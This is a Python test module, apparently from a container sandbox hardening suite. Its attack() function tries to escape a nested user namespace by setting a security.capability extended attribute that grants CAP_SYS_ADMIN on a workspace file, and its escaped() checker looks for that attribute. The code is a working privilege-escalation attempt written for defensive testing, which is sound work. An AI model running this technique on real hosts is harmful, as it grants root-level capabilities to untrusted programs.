"""Gives a program in the workspace file capabilities from a user namespace of its own, where
process.nesting allows one.

The kernel writes them for that namespace's root. Through an id-mapped mount this is the owner of
the workspace on the disk; where that is root, they would work when anybody runs the program on the
host.

layer: seccomp
control: in a user namespace without a sandbox they can be set
"""
import os

OPTIONS = ["--set", "process.nesting=true"]
CONTROL = "unshare -Ur"


def attack(a):
    put("tool", "x")
    if inside():
        libc = ctypes.CDLL(None, use_errno=True)
        uid, gid = os.getuid(), os.getgid()
        if libc.unshare(0x10000000) == 0:
            attempt(put, "/proc/self/setgroups", "deny")
            attempt(put, "/proc/self/uid_map", f"0 {uid} 1")
            attempt(put, "/proc/self/gid_map", f"0 {gid} 1")
            print("root of a namespace:", os.getuid() == 0)
    value = struct.pack("<IIIII", 0x02000001, 1 << 21, 0, 0, 0)
    attempt(os.setxattr, "tool", "security.capability", value)
    attempt(lambda: os.setxattr("tool", "security.capability", value, follow_symlinks=False))
    fd = os.open("tool", os.O_RDWR)
    attempt(os.setxattr, fd, "security.capability", value)
    held = ctypes.create_string_buffer(value)
    attempt(syscall, 463, fd, "", 0x1000, "security.capability",
            struct.pack("<QII", ctypes.addressof(held), len(value), 0), 16)	# setxattrat


def escaped(s, r):
    if not s.control and r.rc != 125 and "root of a namespace: True" not in r.out:
        s.t.fail("the attack never got its namespace, so nothing was shown")
    with s.t.root():
        tool = os.path.join(s.ws, "tool")
        return os.path.exists(tool) and "security.capability" in os.listxattr(tool)
